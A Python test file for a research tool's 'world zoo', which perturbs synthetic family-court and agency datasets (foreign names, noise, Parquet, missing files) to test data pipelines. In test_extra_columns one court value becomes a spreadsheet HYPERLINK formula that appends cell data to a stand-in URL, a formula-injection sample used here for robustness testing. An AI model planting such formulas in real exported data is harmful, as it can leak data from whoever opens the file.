"""The world zoo: each perturbation does what it says, zoo worlds are deterministic, the
registry and the CLI. (Whether the stages accept these worlds is tested where the stages are.)"""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from fdac_research import reference
from fdac_research.cli import main
from fdac_research.world import ZOO_WORLDS, generate_world, make_zoo_world
from fdac_research.world._zoo import ZooWorld, apply_perturbations, perturbation_rng, zoo_config
from fdac_research.world._zoo_io import ZooFiles, column_kind, is_reference, load_files
from fdac_research.world._zoo_perturb import (
    BAD_AGENCY_FILE,
    NOTE_PAYLOADS,
    PERTURBATIONS,
)
from fdac_research.world._zoo_pools import (
    COURT_MAP,
    FAKE_LOCAL_AUTHORITY,
    FOREIGN_FEMALE,
    FOREIGN_MALE,
    FOREIGN_SURNAMES,
    LA_MAP,
    NAME_MAP,
    OTHER_SUBSTANCES,
    SUBSTANCE_WORDS,
)

FAMILIES = 40
SPLIT = re.compile(r"[- ]")


def _digest(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def _read(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False, encoding="utf-8-sig")


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> ZooFiles:
    """A clean 40-family world as the zoo reads it (copy before changing)."""
    cfg = zoo_config("foreign", families=FAMILIES, seed=11)
    out = tmp_path_factory.mktemp("zoo") / "base"
    generate_world(out, cfg)
    return load_files(out, cfg)


def _apply(base: ZooFiles, *names: str) -> tuple[ZooFiles, dict]:
    files = base.copy()
    return files, apply_perturbations(files, list(names))


# --- the fixed vocabularies -------------------------------------------------------------
def test_name_map_is_a_bijection_onto_a_foreign_pool() -> None:
    ref = set(reference.FEMALE_NAMES) | set(reference.MALE_NAMES) | set(reference.SURNAMES)
    assert set(NAME_MAP) == ref
    assert len(set(NAME_MAP.values())) == len(NAME_MAP)
    pool = FOREIGN_FEMALE + FOREIGN_MALE + FOREIGN_SURNAMES
    assert len(set(pool)) == len(pool)
    nicknames = {n for forms in reference.NICKNAMES.values() for n in forms}
    tokens = {t for name in pool for t in SPLIT.split(name)}
    assert not tokens & (ref | nicknames)  # nothing maps onto a name that stays unmapped
    multi = [name for name in pool if SPLIT.search(name)]
    assert not {t for name in multi for t in SPLIT.split(name)} & set(pool)
    assert {"Siân", "Łucja", "Zoë", "Ngozi", "Oluwaseun", "Aoife", "Dafydd"} <= set(pool)
    assert {"Ó Briain", "D'Souza", "Ffion", "Wojciech", "Nowakowska-Kowalska"} <= set(pool)
    # female names map to female names, male to male
    assert all(NAME_MAP[n] in FOREIGN_FEMALE for n in reference.FEMALE_NAMES)
    assert all(NAME_MAP[n] in FOREIGN_MALE for n in reference.MALE_NAMES if n != "Kelly")


def test_place_maps_are_one_to_one_and_keep_the_court_structure() -> None:
    assert set(COURT_MAP) == set(reference.COURTS) and len(set(COURT_MAP.values())) == 9
    assert set(LA_MAP) == set(reference.LOCAL_AUTHORITIES) and len(set(LA_MAP.values())) == 17
    assert not set(COURT_MAP.values()) & set(COURT_MAP)
    assert not set(LA_MAP.values()) & set(LA_MAP)
    assert FAKE_LOCAL_AUTHORITY in LA_MAP.values()
    assert {"Bristol, City of", "Brighton & Hove", "Wolverhampton City Council"} <= set(
        LA_MAP.values()
    )


# --- each perturbation -------------------------------------------------------------------
def test_foreign_names(base: ZooFiles) -> None:
    files, details = _apply(base, "foreign_names")
    assert details["foreign_names"]["cells_changed"] > 0
    keys = ["court_people"] + [k for k in files.tables if k.startswith("agencies/")]
    for key in keys:
        for col in ("given_name", "family_name"):
            new, old = files.tables[key][col], base.tables[key][col]
            tokens = {t for v in new for t in SPLIT.split(v) if t}
            assert not tokens & set(NAME_MAP), (key, col)
            # cell by cell: mapped token by token, and distinct names stay distinct
            for a, b in zip(old, new, strict=True):
                assert b == "".join(NAME_MAP.get(t, t) for t in re.split(r"([- ])", a))
            assert pd.crosstab(old, new).astype(bool).sum().max() == 1
    people = files.tables["court_people"]
    assert people["given_name"].isin(FOREIGN_FEMALE + FOREIGN_MALE).all()
    # the same person keeps matching names across files
    links = base.tables["truth/agency_links"]
    truth = base.tables["truth/people"].set_index("person_ref")["true_person_id"]
    # one row per true person (a mother in two cases is named in both; either row will do,
    # the same one before and after the mapping)
    first = ~people["person_ref"].map(truth).duplicated().to_numpy()
    court = people[first].assign(t=people["person_ref"].map(truth)).set_index("t")
    court_old = (
        base.tables["court_people"][first].assign(t=people["person_ref"].map(truth)).set_index("t")
    )
    for agency in ("health", "police"):
        rec = files.tables[f"agencies/{agency}"]
        who = links[links["agency"] == agency].set_index("record_id")["true_person_id"]
        t = rec["record_id"].map(who)
        in_court = t.isin(court.index)
        same_new = (
            rec["family_name"][in_court].to_numpy()
            == court.loc[t[in_court], "family_name"].to_numpy()
        )
        old = base.tables[f"agencies/{agency}"]["family_name"][in_court].to_numpy()
        same_old = old == court_old.loc[t[in_court], "family_name"].to_numpy()
        assert (same_new == same_old).all() and same_new.sum() > 10


def test_foreign_places(base: ZooFiles) -> None:
    files, _ = _apply(base, "foreign_places")
    new, old = files.tables["court_cases"], base.tables["court_cases"]
    assert new["court"].isin(COURT_MAP.values()).all()
    assert new["local_authority"].isin(LA_MAP.values()).all()
    assert (new["court"] == old["court"].map(COURT_MAP)).all()
    assert (new["local_authority"] == old["local_authority"].map(LA_MAP)).all()
    for court, las in new.groupby("court")["local_authority"]:
        old_court = {v: k for k, v in COURT_MAP.items()}[court]
        assert {LA_MAP[la] for la in reference.COURTS[old_court][0]} >= set(las)


def test_foreign_substances(base: ZooFiles) -> None:
    files, _ = _apply(base, "foreign_substances")
    new = files.tables["agencies/substance_misuse"]["substances"]
    old = base.tables["agencies/substance_misuse"]["substances"]
    back = {v: k for k, v in SUBSTANCE_WORDS.items()} | {"Heroin": "heroin"}
    back |= {o: "other" for o in OTHER_SUBSTANCES}
    for a, b in zip(old, new, strict=True):
        assert a == ";".join(back[w.strip()] for w in b.split(";")) if b else a == ""
    items = {w.strip() for v in new for w in v.split(";") if w}
    assert not items & {"heroin", "cocaine", "crack", "amphetamine", "benzodiazepines", "other"}
    assert {"opiates", "Cocaine powder", "alcohol"} <= items
    multi = [v for v in new if ";" in v]
    assert len({re.search(r"\s*;\s*", v).group() for v in multi}) >= 3  # type: ignore[union-attr]


def test_extra_columns(base: ZooFiles) -> None:
    files, details = _apply(base, "extra_columns")
    t = files.tables
    for key in (k for k in t if not k.startswith("truth/")):
        assert len(t[key].columns) > len(base.tables[key].columns), key
    people = t["court_people"]
    assert {"notes", "local_authority", "age", "person_id", "case_id", "person_key"} <= set(
        people.columns
    )
    for key in ("court_people", "court_outcomes", "hearings"):
        assert set(NOTE_PAYLOADS) <= set(t[key]["notes"])
        assert t[key]["notes"].str.contains(",").any() and t[key]["notes"].str.contains('"').any()
    assert not any("\n" in v for key in ("court_people", "hearings") for v in t[key]["notes"])
    case_of = people.set_index("person_ref")["case_ref"]
    assert (t["court_outcomes"]["case_ref"] == t["court_outcomes"]["person_ref"].map(case_of)).all()
    cases = t["court_cases"]
    assert " caseworker " in cases.columns
    assert (
        t["hearings"]["cohort"]
        == t["hearings"]["case_ref"].map(cases.set_index("case_ref")["cohort"])
    ).all()
    assert "source" in t["agencies/local_authority"].columns
    nhs = t["agencies/health"]["nhs_number"]
    assert nhs.str.fullmatch(r"999\d{7}").all()
    # one NHS number per true person
    who = base.tables["truth/agency_links"].set_index("record_id")["true_person_id"]
    per_person = nhs.groupby(t["agencies/health"]["record_id"].map(who)).nunique()
    assert (per_person == 1).all()
    # one court became a formula, the same text for every one of its cases
    target = details["extra_columns"]["formula_court"]
    was = base.tables["court_cases"]["court"] == target
    assert cases["court"][was].nunique() == 1
    assert cases["court"][was].iloc[0].startswith('=HYPERLINK("http://example.invalid/?"&A2,')
    assert (cases["court"][~was] == base.tables["court_cases"]["court"][~was]).all()
    age = pd.to_numeric(people["age"].replace("", np.nan))
    assert age.between(0, 80).all()


def test_drop_optional(base: ZooFiles) -> None:
    files, _ = _apply(base, "drop_optional")
    t = files.tables
    assert "opt_outs" not in t and "agencies/cafcass" not in t and "agencies/education" not in t
    for key in (k for k in t if k.startswith("agencies/")):
        gone = {"cautions", "child_protection_plans", "treatment_episodes"}
        assert not gone & set(t[key].columns)
    assert "ethnicity" in t["court_people"].columns
    assert (t["court_people"]["ethnicity"] == "").all()
    assert not t["truth/agency_links"]["agency"].isin(["cafcass", "education"]).any()


def test_drop_attributes(base: ZooFiles) -> None:
    files, _ = _apply(base, "drop_attributes")
    t = files.tables
    assert "substances" not in t["agencies/substance_misuse"].columns
    assert "mental_health" not in t["agencies/health"].columns
    assert "convictions" not in t["agencies/police"].columns
    assert "cautions" in t["agencies/police"].columns


def test_parquet_writes_typed_tables(base: ZooFiles, tmp_path: Path) -> None:
    w = ZooWorld("p", "parquet", {"n_families": FAMILIES, "seed": 11}, ("parquet",), "valid")
    summary = make_zoo_world(w, tmp_path / "p")
    files = [f for f in summary["files"] if not f.endswith(".json")]
    assert files and all(f.endswith(".parquet") for f in files)
    assert not list((tmp_path / "p").rglob("*.csv"))
    expected = {
        "date": pa.date32(),
        "bool": pa.bool_(),
        "int": pa.int64(),
        "float": pa.float64(),
    }
    seen = set()
    for f in files:
        key = f[: -len(".parquet")]
        table = pq.read_table(tmp_path / "p" / f)
        clean = base.tables[key]
        assert table.column_names == list(clean.columns)
        for name in table.column_names:
            kind = column_kind(key, name)
            assert table.schema.field(name).type == expected.get(kind, pa.string()), (f, name)
            seen.add(table.schema.field(name).type)
            # empty -> null, everything else kept
            assert table.column(name).null_count == int((clean[name] == "").sum())
    assert seen == {pa.date32(), pa.bool_(), pa.int64(), pa.float64(), pa.string()}
    cases = pq.read_table(tmp_path / "p" / "court_cases.parquet").to_pandas()
    assert [str(d) for d in cases["application_date"]] == list(
        base.tables["court_cases"]["application_date"]
    )


def _normalise(key: str, df: pd.DataFrame) -> pd.DataFrame:
    out = {}
    for col in df.columns:
        s = df[col].map(str.strip)
        if col == "postcode":
            s = s.str.replace(r"\s+", "", regex=True).str.upper()
        elif not is_reference(key, col) and column_kind(key, col) in ("category", "bool", "list"):
            s = s.str.casefold()
        out[col] = s
    return pd.DataFrame(out)


def _assert_reads_like(noisy: dict[str, pd.DataFrame], clean: dict[str, pd.DataFrame]) -> int:
    """Noisy tables normalise to the clean ones cell for cell; returns how many raw cells differ."""
    differ = 0
    for key, c in clean.items():
        if key.startswith("truth/"):
            assert noisy[key].equals(c)
            continue
        n = noisy[key]
        assert list(n.columns) == list(c.columns)
        if key == "opt_outs":  # two objections were added: one repeated, one re-cased
            assert len(n) == len(c) + 2
            extra = _normalise(key, n.iloc[len(c) :])
            assert (
                extra.merge(_normalise(key, c), how="left", indicator=True)["_merge"]
                .eq("both")
                .all()
            )
            n = n.iloc[: len(c)]
            assert (n == noisy[key].iloc[len(c)]).all(axis=1).any()  # repeated as it was
        assert _normalise(key, n).equals(_normalise(key, c)), key
        for col in c.columns:
            if is_reference(key, col):
                assert (n[col].str.strip() == c[col]).all(), (key, col)
        differ += int((n.to_numpy() != c.to_numpy()).sum())
    return differ


def test_text_noise(base: ZooFiles, tmp_path: Path) -> None:
    files, details = _apply(base, "text_noise")
    differ = _assert_reads_like(files.tables, base.tables)
    total = sum(df.size for k, df in base.tables.items() if not k.startswith("truth/"))
    assert differ > 0.15 * total
    d = details["text_noise"]
    assert d["padded"] and d["case_variants"] and d["postcodes"] and d["opt_out_rows_added"] == 2
    cells = {v for df in files.tables.values() for v in df.to_numpy().ravel()}
    for variant in ("FDAC", "Comparison", "Mother", "f", "TRUE", "False", "white", "Care_Order"):
        assert variant in {v.strip() for v in cells}, variant
    assert any("\t" in v for v in cells) and any("\u00a0" in v for v in cells)
    posts = files.tables["court_people"]["postcode"].str.strip()
    assert posts.str.contains(r"^[a-z0-9]+ ?[a-z0-9]*$").any() and posts.str.contains("  ").any()
    assert (~posts.str.contains(" ") & (posts != "")).any()
    opt = files.tables["opt_outs"]
    refs = pd.concat([opt["person_ref"], opt["case_ref"]])
    assert (refs[refs != ""] != refs[refs != ""].str.strip()).all()
    assert opt["scope"].str.strip().nunique() > opt["scope"].str.strip().str.casefold().nunique()
    # written: a BOM and CRLF line endings in every CSV
    w = ZooWorld("n", "noise", {"n_families": FAMILIES, "seed": 11}, ("text_noise",), "valid")
    make_zoo_world(w, tmp_path / "n")
    for p in (tmp_path / "n").rglob("*.csv"):
        raw = p.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf") and raw.count(b"\r\n") == raw.count(b"\n")
    read = {
        p.relative_to(tmp_path / "n").with_suffix("").as_posix(): _read(p)
        for p in (tmp_path / "n").rglob("*.csv")
    }
    _assert_reads_like(read, base.tables)


def test_foreign_truth(base: ZooFiles) -> None:
    files, _ = _apply(base, "foreign_truth")
    doc = json.loads(files.blobs["truth/effects.json"])
    assert doc["generator"] == "other" and "effects" not in doc
    rows = pd.DataFrame(doc["true_effects"])
    assert set(rows["outcome"]) == {"reunified", "ceased_misuse"}
    assert set(rows["population"]) == {"children", "mothers", "fathers"}
    assert set(rows["estimand"]) == {"ATE", "ATT"}
    old = json.loads(base.blobs["truth/effects.json"])["effects"]
    ate = rows.set_index(["population", "estimand"])
    assert (
        ate.loc[("children", "ATE"), "odds_ratio"] == old["reunified_children"]["ate"]["odds_ratio"]
    )
    assert list(files.tables["truth/people"].columns[:2]) == ["person", "court_person"]
    assert list(files.tables["truth/agency_links"].columns) == ["source", "id", "person"]
    assert files.tables["truth/people"]["court_person"].equals(
        base.tables["truth/people"]["person_ref"]
    )


def test_no_truth_bad_agency_name_duplicate_header(base: ZooFiles, tmp_path: Path) -> None:
    files, _ = _apply(base, "no_truth")
    assert not [k for k in [*files.tables, *files.blobs] if k.startswith("truth/")]
    files, _ = _apply(base, "bad_agency_name")
    assert BAD_AGENCY_FILE in files.tables and "agencies/police" not in files.tables
    w = ZooWorld("d", "dup", {"n_families": FAMILIES, "seed": 11}, ("duplicate_header",), "reject")
    make_zoo_world(w, tmp_path / "d")
    header = (tmp_path / "d" / "court_cases.csv").read_text(encoding="utf-8").splitlines()[0]
    assert header.split(",").count("court") == 2
    rows = pd.read_csv(tmp_path / "d" / "court_cases.csv", header=None, skiprows=1, dtype=str)
    i = header.split(",").index("court")
    assert (rows[i] != rows[i + 1]).all()


# --- worlds ------------------------------------------------------------------------------
def test_zoo_worlds_registry() -> None:
    assert {"foreign", "parquet_minimal", "other_truth", "noisy", "bad_agency_name"} <= set(
        ZOO_WORLDS
    )
    for name, w in ZOO_WORLDS.items():
        assert w.name == name and w.description.strip() and "\n" not in w.description
        assert w.expect in ("valid", "reject")
        assert w.perturbations and set(w.perturbations) <= set(PERTURBATIONS)
        zoo_config(name)  # the overrides are a valid WorldConfig
    assert {n for n, w in ZOO_WORLDS.items() if w.expect == "reject"} == {
        "bad_agency_name",
        "duplicate_header",
    }
    cfg = zoo_config("parquet_minimal", families=50, seed=3)
    assert (cfg.n_families, cfg.seed, cfg.reunification_odds_ratio) == (50, 3, 1.0)
    assert zoo_config("other_truth").hidden_confounder == 1.0
    with pytest.raises(ValueError, match="no zoo world"):
        zoo_config("zoo_of_nothing")


def test_zoo_worlds_are_deterministic(tmp_path: Path) -> None:
    for name in ("foreign", "parquet_minimal"):
        a = make_zoo_world(name, tmp_path / f"{name}_a", families=FAMILIES, seed=5)
        make_zoo_world(name, tmp_path / f"{name}_b", families=FAMILIES, seed=5)
        make_zoo_world(name, tmp_path / f"{name}_c", families=FAMILIES, seed=6)
        da, db, dc = (_digest(tmp_path / f"{name}_{x}") for x in "abc")
        assert da == db and sorted(da) == a["files"]
        assert da != dc
    assert not list((tmp_path / "parquet_minimal_a").rglob("truth*"))


def test_no_perturbation_reproduces_the_world(base: ZooFiles, tmp_path: Path) -> None:
    w = ZooWorld("plain", "none", {"n_families": FAMILIES, "seed": 11}, (), "valid")
    make_zoo_world(w, tmp_path / "plain")
    generate_world(tmp_path / "clean", zoo_config(w))
    assert _digest(tmp_path / "plain") == _digest(tmp_path / "clean")


def test_noisy_world_reads_like_the_clean_world(tmp_path: Path) -> None:
    make_zoo_world("noisy", tmp_path / "noisy", families=FAMILIES, seed=2)
    generate_world(tmp_path / "clean", zoo_config("noisy", families=FAMILIES, seed=2))
    load = lambda root: {  # noqa: E731
        p.relative_to(root).with_suffix("").as_posix(): _read(p) for p in root.rglob("*.csv")
    }
    assert _assert_reads_like(load(tmp_path / "noisy"), load(tmp_path / "clean")) > 0


def test_perturbation_rng_depends_on_seed_and_name() -> None:
    a = perturbation_rng(1, "text_noise").random()
    assert a == perturbation_rng(1, "text_noise").random()
    assert a != perturbation_rng(2, "text_noise").random()
    assert a != perturbation_rng(1, "extra_columns").random()


# --- CLI ---------------------------------------------------------------------------------
def test_cli_zoo(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["zoo", "--list"]) == 0
    lines = capsys.readouterr().out.strip().splitlines()
    assert [ln.split()[0] for ln in lines] == list(ZOO_WORLDS)
    assert all(len(ln.split(None, 2)) == 3 for ln in lines)
    out = tmp_path / "z"
    assert (
        main(["zoo", "bad_agency_name", "--out", str(out), "--families", "20", "--seed", "4"]) == 0
    )
    summary = json.loads(capsys.readouterr().out)
    assert summary["families"] == 20 and summary["expect"] == "reject"
    assert (out / f"{BAD_AGENCY_FILE}.csv").is_file()
    assert main(["zoo"]) == 2
    with pytest.raises(SystemExit):
        main(["zoo", "no_such_world", "--out", str(out)])
